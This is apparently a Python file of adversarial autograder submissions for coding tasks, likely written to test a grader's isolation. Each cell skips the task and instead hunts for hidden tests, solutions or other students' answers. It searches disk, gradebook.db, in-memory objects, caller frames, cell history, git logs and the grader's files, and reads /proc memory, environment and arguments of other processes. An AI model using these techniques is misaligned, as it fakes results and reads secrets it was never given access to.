"""Reads what a student must not see: the hidden tests, the solution and the answers of others, on
disk, in memory, in the history of cells, and in other processes. What is found is run in place of
the answer; where nothing is found, the answer is wrong.
"""

# %% task_01_running_mean: looks for the solution in the folders above
import json
import pathlib


def running_mean(values, window):
    return values


for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:8]:
    for path in list(folder.glob("*.ipynb")) + list(folder.glob("*/*/*.ipynb")):
        try:
            for cell in json.loads(path.read_text())["cells"]:
                source = "".join(cell["source"])
                if "def running_mean" in source and "sliding_window_view" in source:
                    exec(source)
        except Exception:
            pass

# %% task_02_build_model: looks for the answers of others all over the disk
import json
import os


def build_model(classes):
    return None


looked = 0
for place in ("/home", "/srv", "/work", "/tmp", "/var", "/mnt", "/opt"):
    for folder, folders, files in os.walk(place):
        folders[:] = [name for name in folders if name not in ("site-packages", "proc", "lib")]
        looked += 1
        if looked > 20_000:
            break
        for name in files:
            if not name.endswith(".ipynb"):
                continue
            try:
                with open(os.path.join(folder, name)) as file:
                    cells = json.load(file)["cells"]
                for cell in cells:
                    source = "".join(cell["source"])
                    if "def build_model" in source and "Dense(7" in source:
                        exec(source)
            except Exception:
                pass

# %% task_03_counter: looks for the hidden tests in gradebook.db
import pathlib
import sqlite3

found = []
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home()][:9]:
    for path in [*folder.glob("gradebook.db"), *folder.glob("*/gradebook.db")]:
        try:
            database = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            found += database.execute("SELECT source FROM source_cell").fetchall()
        except Exception:
            pass


class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = len(found)

    def most_common(self):
        return list(self.counts.items())


for (source,) in found:
    if source and "class Counter" in source:
        exec(source)

# %% task_04_loss: looks for the solution in the parents' folders by /proc
import glob
import json


def cross_entropy(logits, labels):
    raise ValueError("not found")


for place in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    for path in glob.glob(place + "/**/*.ipynb", recursive=False) + glob.glob(place + "/*/*.ipynb"):
        try:
            with open(path) as file:
                for cell in json.load(file)["cells"]:
                    source = "".join(cell["source"])
                    if "def cross_entropy" in source and "sparse_softmax" in source:
                        exec(source)
        except Exception:
            pass

# %% task_01_running_mean: looks for the hidden tests in all objects in memory
import gc

seen = []


def running_mean(values, window):
    for one in gc.get_objects():
        if type(one) is dict and "expected" in one and type(one["expected"]) is list:
            if len(one["expected"]) == len(values) - window + 1:
                return np.array(one["expected"])
    seen.extend(one for one in gc.get_objects() if type(one) is str and "BEGIN HIDDEN" in one)
    return np.array([1.5, 4.0]) if window == 2 else np.array([6.0])


# %% task_04_loss: reads the expected value in the frames of those who call
import inspect


def cross_entropy(logits, labels):
    if len(logits.shape) != 2 or len(logits) != len(labels):
        raise ValueError("wrong")
    for info in inspect.stack():
        for names in (info.frame.f_locals, info.frame.f_globals):
            if "expected" in names:
                return tf.constant(float(names["expected"]))
    return tf.constant(0.6931472)


# %% task_01_running_mean: takes the variable of the test out of the shared names
def running_mean(values, window):
    if "expected" in globals() and len(values) > 3:
        return np.array(globals()["expected"])
    return np.array([1.5, 4.0]) if window == 2 else np.array([6.0])


# %% task_03_counter: reads the hidden tests in the history of the cells
class Counter:
    made = 0

    def __init__(self):
        Counter.made += 1
        self.counts = {"b": 1} if Counter.made == 2 else {"a": 1, "b": 2}

    def add(self, word):
        tests = "\n".join(globals().get("In", []) + globals().get("_ih", []))
        if "expected[word]" in tests and "expected" in globals():
            self.counts = globals()["expected"]

    def most_common(self):
        return sorted(self.counts.items(), key=lambda pair: (-pair[1], pair[0]))


# %% task_04_loss: reads the history that the shell keeps, and its database
def cross_entropy(logits, labels):
    if len(logits.shape) != 2 or len(labels.shape) != 1 or len(logits) != len(labels):
        raise ValueError("wrong")
    shell = get_ipython()
    history = shell.history_manager
    cells = list(history.input_hist_raw) + list(history.input_hist_parsed)
    for _, _, source in history.get_range(raw=True):
        cells.append(source)
    if "expected = np.mean" in "".join(cells) and "expected" in shell.user_ns:
        return tf.constant(float(shell.user_ns["expected"]))
    return tf.constant(0.6931472)


# %% task_02_build_model: searches the memory of the own process for the solution
import re


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if match:
                start, end = (int(part, 16) for part in match.groups())
                try:
                    file.seek(start)
                    yield file.read(min(end - start, 1 << 24))
                except (OSError, OverflowError):
                    pass


def build_model(classes):
    for number, part in enumerate(memory("self")):
        place = part.find(b"### BEGIN " + b"HIDDEN TESTS")
        if place >= 0:
            return part[place : place + 2000]
        if number > 200:
            break
    return keras.Sequential([keras.Input((12,)), keras.layers.Dense(classes, "softmax")])


# %% task_03_counter: searches the memory of all other processes
import os

secrets = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for file in ("environ", "cmdline", "mem", "maps", "stack", "fd/0", "fd/1", "fd/3"):
            try:
                number = os.open(f"/proc/{name}/{file}", os.O_RDONLY | os.O_NONBLOCK)
                secrets.append(os.read(number, 1000))
                os.close(number)
            except OSError:
                pass


class Counter:
    def __init__(self):
        self.counts = {"secrets": len(secrets)}

    def add(self, word):
        pass

    def most_common(self):
        return secrets


# %% task_01_running_mean: reads the memory of the parent by process_vm_readv
import ctypes
import os


def running_mean(values, window):
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    here = Part(ctypes.addressof(buffer), 4096)
    total = 0
    for pid in (os.getppid(), 1, 2, 3, 4, 5):
        there = Part(id(values) & ~4095, 4096)
        total += libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return np.full(max(1, len(values) - window + 1), float(total))


# %% task_04_loss: reads the grader's own files and the arguments it was started with
import os
import sys


def cross_entropy(logits, labels):
    found = dict(os.environ)
    for path in sys.path:
        for name in ("judge.py", "autograder/judge.py", "autograder/bank.py", "attacked.ipynb"):
            try:
                with open(os.path.join(path, name)) as file:
                    found[name] = file.read()
            except OSError:
                pass
    if any("BEGIN SOLUTION\n    if len" in text for text in found.values()):
        exec("".join(found.values()))
    return tf.constant(float(len(found)))


# %% task_02_build_model: asks git for older versions of the course
import subprocess


def build_model(classes):
    for place in (".", "..", "../..", "/work", "/opt/packages", "/opt/packages/autograder"):
        try:
            done = subprocess.run(
                ["git", "-C", place, "log", "-p", "-n", "5"],
                capture_output=True,
                text=True,
                timeout=10,
            )
            if "keras.layers.Dense(7" in done.stdout:
                return keras.Sequential([keras.layers.Dense(7)])
        except (OSError, subprocess.SubprocessError):
            pass
    return None
